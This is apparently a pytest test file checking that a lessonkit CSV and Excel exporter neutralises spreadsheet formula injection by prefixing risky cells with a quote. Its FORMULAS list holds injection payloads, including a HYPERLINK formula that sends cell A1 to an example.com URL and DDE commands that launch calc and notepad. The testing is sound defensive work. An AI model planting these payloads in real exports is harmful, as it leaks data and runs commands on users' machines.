"""Exports a spreadsheet opens safely: a learner's '=...' is text in the CSV and in the Excel workbook.

The cells come from a real store (answers, names and ids as learners' pages save them), are written by
lessonkit.export and read back with the csv module and openpyxl, as a spreadsheet would read them.
"""

from __future__ import annotations

import csv
import io

import pytest

from lessonkit.export import (
    COLUMNS,
    answer_text,
    csv_bytes,
    export_class,
    export_file,
    formula_like,
    neutralised,
    xlsx_bytes,
)
from lessonkit.store import TRAINER

# What learners have typed that a spreadsheet would run (OWASP's list, and the tricks around it).
FORMULAS = [
    "=HYPERLINK(\"http://example.com/?\"&A1,\"Library hours\")",
    "+61 2 9876 5432",                 # a phone number: Excel computes it
    "-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =cmd|'/C notepad'!A1",         # after spaces
    "\n\n=1+1",                        # after line breaks
    "\uff1d1+1",                       # a full-width equals sign
]
PLAIN = ["Greet the borrower by name", "It's due back 12/3", "3 - 2 = 1", "email me@example.com",
         "A \"quoted\" word, a comma; a semicolon\nand a second line", "Grüße 👋", ""]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_cells_get_a_single_quote(text):
    assert formula_like(text)
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_other_cells_are_written_as_they_are(text):
    assert not formula_like(text)
    assert neutralised(text) == text


@pytest.fixture
def class_store(store):
    """A class whose learners typed formulas into every field they fill in: answers, items, names."""
    for n, text in enumerate(FORMULAS + PLAIN):
        learner = f"teal-wombat-{10 + n}"
        store.submit("LIB9", "comments.discussion", learner, "post-1", text)
        store.set_display_name("LIB9", learner, text.strip() or None)
    store.submit("LIB9", "colour-days", "amber-emu-11", "=monday", {"note": "=1+1"})   # an item as a page named it
    store.submit("LIB9", "quiz", "amber-emu-11", "q1", -3)                               # a number answer
    store.submit("LIB9", "comments.discussion.moderation", TRAINER, "teal-wombat-10/post-1", {"hidden": True},
                 force=True)
    return store


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode("utf-8"))
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_csv_has_no_cell_a_spreadsheet_would_run(class_store):
    rows = class_store.export_rows("LIB9")
    data = csv_bytes(rows)
    table = read_csv(data)
    assert table[0] == list(COLUMNS) and len(table) == len(rows) + 1
    risky = 0
    for stored, written in zip(rows, table[1:]):
        for column, cell in zip(COLUMNS, written):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), (column, cell)
            assert not cell.lstrip(" \r\n\t").startswith(("=", "+", "-", "@")), (column, cell)
            if cell.startswith("'"):
                risky += 1
        # apart from that quote, every cell is what the store holds
        stored_text = [stored["class_code"], stored["activity"], stored["item"], stored["learner"],
                       stored["display_name"], answer_text(stored["answer"])]
        assert written[:6] == [("'" + t) if formula_like(t) else t for t in stored_text]
    # each formula as an answer and as a name (the store trims the spaces and line breaks around a name),
    # the item "=monday", and the number answer -3; the JSON answer {"note": "=1+1"} starts with "{"
    assert risky == len(FORMULAS) * 2 + 1 + 1
    assert ["LIB9", "quiz", "q1", "amber-emu-11", "", "'-3"] == [r for r in table if r[1] == "quiz"][0][:6]


def test_every_csv_cell_is_quoted_so_nothing_splits_it(class_store):
    data = csv_bytes(class_store.export_rows("LIB9")).decode("utf-8-sig")
    header = data.split("\r\n", 1)[0]
    assert header == ",".join(f'"{c}"' for c in COLUMNS)
    assert '"A ""quoted"" word, a comma; a semicolon\nand a second line"' in data
    assert '\r\n"LIB9","quiz","q1","amber-emu-11","","\'-3","20' in data   # numbers and blanks quoted too


def test_the_workbook_keeps_formulas_as_text(class_store, tmp_path):
    from openpyxl import load_workbook

    rows = class_store.export_rows("LIB9")
    path, n = export_class(class_store, "LIB9", fmt="xlsx", path=tmp_path / "class.xlsx")
    assert n == len(rows)
    sheet = load_workbook(path).active
    values = list(sheet.iter_rows(min_row=2))
    assert len(values) == len(rows)
    seen = 0
    for row in values:
        for cell in row:
            text = cell.value
            if text is None:       # an empty cell (no display name): nothing to run
                continue
            assert cell.data_type == "s", (cell.coordinate, text)      # never a formula
            assert cell.quotePrefix is formula_like(text), (cell.coordinate, text)
            seen += formula_like(text)
    assert seen == len(FORMULAS) * 2 + 1 + 1       # as in the CSV
    texts = {cell.value for row in values for cell in row}
    assert FORMULAS[0] in texts and "-3" in texts    # shown exactly as typed, without a quote in the text
    assert xlsx_bytes([])[:2] == b"PK"


def test_an_export_says_what_it_holds(class_store, tmp_path):
    done = export_file(class_store, "LIB9", path=tmp_path / "x.csv")
    assert (done.answers, done.trainer_records) == (len(FORMULAS + PLAIN) + 2, 1)
    assert len(read_csv(done.path.read_bytes())) == done.answers + done.trainer_records + 1
